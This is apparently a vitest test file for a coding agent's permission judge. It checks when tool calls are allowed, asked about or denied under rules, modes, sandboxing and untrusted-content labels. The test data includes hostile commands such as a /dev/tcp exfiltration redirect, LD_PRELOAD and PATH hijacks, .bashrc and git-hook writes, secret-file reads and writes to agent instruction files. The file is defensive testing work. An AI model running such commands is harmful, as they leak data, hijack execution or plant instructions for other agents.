/** What becomes of a call: rules, modes, what is guarded, and what the session has taken in. The strongest word wins. */
import { describe, expect, it } from "vitest";
import type { SessionConfig } from "../../../src/kernel/config.ts";
import { CLEAN_LABEL, type SessionLabel } from "../../../src/kernel/label.ts";
import {
  DEFAULT_CONFINEMENT,
  DEFAULT_FLOW,
  type Grant,
  PERMISSION_MODES,
  type PermissionRule,
} from "../../../src/kernel/permissions.ts";
import { readCall } from "../../../src/policy/call-reading.ts";
import { judge, type Judgement, needsReading } from "../../../src/policy/judge.ts";
import type { JudgeRequest, JudgeStanding } from "../../../src/policy/standing.ts";
import { testConfig } from "../../support/config.ts";

const STRANGER = { seq: 4, what: "web https://docs.example/", call: null };
const SECRET = { seq: 5, what: "the file .env", call: null };
const UNTRUSTED: SessionLabel = { untrusted: [STRANGER], secret: [] };
const BOTH: SessionLabel = { untrusted: [STRANGER], secret: [SECRET] };
const BWRAP = { sandbox: { mode: "bwrap", network: false }, approval: "sandbox" } as const;
const ONLINE = { sandbox: { mode: "bwrap", network: true } } as const;
const EXTERNAL = { sandbox: { mode: "external", network: true } } as const;

interface Given {
  readonly config?: Partial<SessionConfig>;
  readonly rules?: readonly (readonly [PermissionRule["behavior"], string])[];
  readonly standing?: Partial<JudgeStanding>;
}

async function judged(
  request: JudgeRequest,
  { config = {}, rules = [], standing = {} }: Given = {},
): Promise<Judgement> {
  const stands: JudgeStanding = {
    config: testConfig({
      ...BWRAP,
      permissions: { rules: rules.map(([behavior, rule]) => ({ behavior, rule, source: "user" })), on_ask: "prompt" },
      ...config,
    }),
    label: CLEAN_LABEL,
    phase: null,
    userWrote: () => false,
    webNamed: () => false,
    root: "/w",
    home: "/home/u",
    now: 1_000,
    ...standing,
  };
  return judge(request, stands, needsReading(request, stands) ? await readCall(request, stands) : null);
}

const bash = (command: string): JudgeRequest => ({ tool: "bash", effect: "execute", input: { command } });
const write = (path: string): JudgeRequest => ({ tool: "write", effect: "write", input: { path, content: "" } });
const read = (path: string): JudgeRequest => ({ tool: "read", effect: "read", input: { path } });
const web = (url: string): JudgeRequest => ({ tool: "web_fetch", effect: "network", input: { url } });
const PAGE = web("https://docs.example/a");
const DOCS = [["allow", "WebFetch(domain:docs.example)"]] as const;

const decision = async (...args: Parameters<typeof judged>): Promise<string> => (await judged(...args)).decision;

describe("without rules", () => {
  it("what stays in the workspace and the sandbox is allowed; the web is asked about", async () => {
    expect(await decision(read("a.txt"))).toBe("allow");
    expect(await decision(write("a.txt"))).toBe("allow");
    expect(await decision(bash("anything at all"))).toBe("allow");
    expect(await decision(PAGE)).toBe("ask");
  });

  it("commands are asked about where nothing confines them, unless somebody said so", async () => {
    const none = { sandbox: { mode: "none", network: true } } as const;
    expect(await decision(bash("ls"), { config: { ...none, approval: "sandbox" } })).toBe("ask");
    expect(await decision(bash("ls"), { config: { ...none, approval: "allow" } })).toBe("allow");
    expect(await decision(bash("ls"), { config: EXTERNAL })).toBe("allow");
  });

  it("what steers other programs is asked about before it is written, and where secrets lie before it is read", async () => {
    for (const path of [".mcp.json", ".claude/settings.json", "a/.git/hooks/x", ".VSCODE/tasks.json"])
      expect(await decision(write(path))).toBe("ask");
    for (const path of [".env", "deploy/.env.production", "id_ed25519"]) expect(await decision(read(path))).toBe("ask");
  });
});

describe("rules and modes", () => {
  it("deny beats ask beats allow", async () => {
    const rules = [
      ["allow", "Bash(npm *)"],
      ["ask", "Bash(npm publish *)"],
      ["deny", "Bash(npm publish --force *)"],
    ] as const;
    expect(await decision(bash("npm test"), { rules })).toBe("allow");
    expect(await decision(bash("npm publish x"), { rules })).toBe("ask");
    expect(await decision(bash("npm publish --force x"), { rules })).toBe("deny");
  });

  it("a rule that forbids beats the sandbox and every mode", async () => {
    for (const permission_mode of PERMISSION_MODES)
      expect(await decision(bash("rm -rf x"), { rules: [["deny", "Bash(rm *)"]], config: { permission_mode } })).toBe(
        "deny",
      );
  });

  it("plan changes nothing; dontAsk and --on-ask deny make a no of every question", async () => {
    expect(await decision(write("a.txt"), { config: { permission_mode: "plan" } })).toBe("deny");
    expect(await judged(PAGE, { config: { permission_mode: "dontAsk" } })).toMatchObject({
      decision: "deny",
      reason: expect.stringContaining("dontAsk") as string,
    });
    expect(await judged(PAGE, { config: { permissions: { rules: [], on_ask: "deny" } } })).toMatchObject({
      decision: "deny",
      reason: expect.stringContaining("--on-ask deny") as string,
    });
    expect(await decision(PAGE, { config: { permissions: { rules: [], on_ask: "wait" } } })).toBe("ask");
  });

  it("bypassPermissions allows the web, and opens no sink that a label closes", async () => {
    const config = { permission_mode: "bypassPermissions" } as const;
    expect(await decision(PAGE, { config })).toBe("allow");
    expect(await decision(PAGE, { config, standing: { label: UNTRUSTED } })).toBe("ask");
    expect(await decision(write("AGENTS.md"), { config, standing: { label: UNTRUSTED } })).toBe("ask");
    expect(await decision(write(".mcp.json"), { config })).toBe("ask");
    const online = { ...config, ...ONLINE };
    expect(await judged(bash("npm test"), { config: online, standing: { label: UNTRUSTED } })).toMatchObject({
      network_withheld: true,
    });
  });
});

describe("the web, after text of strangers", () => {
  const after = (standing: Partial<JudgeStanding>, label = UNTRUSTED): Given => ({
    rules: DOCS,
    standing: { label, ...standing },
  });

  it("a rule for the host is no yes to what the model puts into the address", async () => {
    expect(await decision(PAGE, { rules: DOCS })).toBe("allow");
    expect(await judged(PAGE, after({}))).toMatchObject({
      decision: "ask",
      sink: { sink: "network", destination: "docs.example" },
      reason: expect.stringContaining(STRANGER.what) as string,
    });
  });

  it("what the web itself named stays open, and so does what the user wrote and the host's own front page", async () => {
    expect(await decision(PAGE, after({ webNamed: () => true }))).toBe("allow");
    expect(await decision(PAGE, after({ userWrote: () => true }))).toBe("allow");
    expect(await decision(web("https://docs.example/"), after({}))).toBe("allow");
    expect(await decision(web("https://docs.example/?q"), after({}))).toBe("ask");
    const below = { ...after({}), rules: [["allow", "WebFetch(domain:*.docs.example)"]] as const };
    expect(await decision(web("https://secret.docs.example/"), below)).toBe("ask");
  });

  it("what the web named is no yes without a rule, and nothing is open that could carry a secret", async () => {
    expect(await decision(PAGE, { standing: { label: UNTRUSTED, webNamed: () => true } })).toBe("ask");
    expect(await decision(PAGE, after({ webNamed: () => true, userWrote: () => true }, BOTH))).toBe("ask");
  });

  it("is open where nothing is private, and by a grant", async () => {
    const grant: Grant = {
      id: "g",
      sink: "network",
      destination: "docs.example",
      label: "untrusted",
      expires_at: 2_000,
    };
    const given = after({});
    expect(
      await decision(PAGE, { ...given, config: { flow: { ...DEFAULT_FLOW, public: true }, ...rulesOf(DOCS) } }),
    ).toBe("allow");
    const granted = { flow: { ...DEFAULT_FLOW, grants: [grant] }, ...rulesOf(DOCS) };
    expect(await decision(PAGE, { ...given, config: granted })).toBe("allow");
    expect(await decision(PAGE, { config: granted, standing: { label: UNTRUSTED, now: 2_000 } })).toBe("ask");
    expect(await decision(PAGE, { config: granted, standing: { label: BOTH } })).toBe("ask");
  });
});

describe("commands, after text of strangers", () => {
  const standing = { label: UNTRUSTED };

  it("go on without the network that a sandbox can take away", async () => {
    expect(await judged(bash("npm test"), { config: ONLINE })).toMatchObject({
      decision: "allow",
      network_withheld: false,
    });
    expect(await judged(bash("npm test"), { config: ONLINE, standing })).toMatchObject({
      decision: "allow",
      network_withheld: true,
    });
    const confinement = { ...DEFAULT_CONFINEMENT, domains: ["registry.example.com"] };
    expect(await judged(bash("npm ci"), { config: { confinement }, standing })).toMatchObject({
      network_withheld: true,
    });
    expect(await judged(bash("npm ci"), { standing })).toMatchObject({
      decision: "allow",
      network_withheld: false,
      sink: null,
    });
  });

  it("are asked about where nobody can take it away, but for what stays offline and inside", async () => {
    const config = EXTERNAL;
    for (const harmless of ["ls -la", "git status", "cat a.txt | grep x", "mkdir -p made", "echo x > made.txt"])
      expect({ harmless, decision: await decision(bash(harmless), { config, standing }) }).toEqual({
        harmless,
        decision: "allow",
      });
    for (const asked of [
      ...["npm test", "curl https://a.example", "node x.js", "bash x.sh", "$(cat x)", "cat a > /dev/tcp/1.2.3.4/80"],
      ...[
        "cp a.txt /elsewhere/a",
        "echo x > ../out",
        "echo x >> ~/.bashrc",
        "PATH=./b:$PATH ls",
        "LD_PRELOAD=./x.so ls",
      ],
      ...["PATH=./b; ls", "echo x > .git/hooks/post-merge", "git diff --ext-diff", "touch /tmp/x"],
    ])
      expect({ asked, decision: await decision(bash(asked), { config, standing }) }).toEqual({
        asked,
        decision: "ask",
      });
    const typed: JudgeRequest = { tool: "bash", effect: "execute", input: { process: "p1", input: "curl x" } };
    expect(await decision(typed, { config, standing })).toBe("ask");
  });

  it("that openly write what agents obey are asked about, and a yes to that is none to the network", async () => {
    for (const command of [
      "echo x >> CLAUDE.md",
      "tee AGENTS.md < a",
      "cp a docs/GEMINI.md",
      "cat a > .cursor/rules/a.md",
    ])
      expect(await judged(bash(command), { standing })).toMatchObject({
        decision: "ask",
        sink: { sink: "configuration" },
      });
    const grant: Grant = {
      id: "g",
      sink: "configuration",
      destination: "CLAUDE.md",
      label: "untrusted",
      expires_at: null,
    };
    const config = { ...ONLINE, flow: { ...DEFAULT_FLOW, grants: [grant] } };
    expect(await judged(bash("echo x >> CLAUDE.md; curl a.example"), { config, standing })).toMatchObject({
      decision: "allow",
      network_withheld: true,
    });
  });
});

describe("configuration, after text of strangers", () => {
  it("is asked about also where a rule allows the write", async () => {
    const rules = [["allow", "Edit(**)"]] as const;
    for (const path of [
      "CLAUDE.md",
      "a/AGENTS.md",
      "./x/../CLAUDE.local.md",
      ".github/copilot-instructions.md",
      ".cursorrules",
    ]) {
      expect(await decision(write(path), { rules })).toBe("allow");
      expect(await decision(write(path), { rules, standing: { label: UNTRUSTED } })).toBe("ask");
    }
    expect(await decision(write("src/agents.ts"), { rules, standing: { label: UNTRUSTED } })).toBe("allow");
  });
});

function rulesOf(rules: NonNullable<Given["rules"]>): Pick<SessionConfig, "permissions"> {
  return {
    permissions: { rules: rules.map(([behavior, rule]) => ({ behavior, rule, source: "user" })), on_ask: "prompt" },
  };
}

describe("an address", () => {
  it("that the user wrote, or whose host is granted, needs no rule, and a rule that forbids is stronger", async () => {
    const grant: Grant = {
      id: "g",
      sink: "network",
      destination: "docs.example",
      label: "untrusted",
      expires_at: null,
    };
    const wrote = { standing: { userWrote: (text: string) => text === "https://docs.example/a" } };
    const granted = { config: { flow: { ...DEFAULT_FLOW, grants: [grant] } } };
    expect(await decision(PAGE)).toBe("ask");
    expect(await decision(PAGE, wrote)).toBe("allow");
    expect(await decision(web("https://docs.example/a?more"), wrote)).toBe("ask");
    expect(await decision(PAGE, granted)).toBe("allow");
    expect(await decision(web("https://other.example/"), granted)).toBe("ask");
    for (const given of [wrote, granted])
      expect(await decision(PAGE, { ...given, rules: [["deny", "WebFetch(domain:docs.example)"]] })).toBe("deny");
  });
});
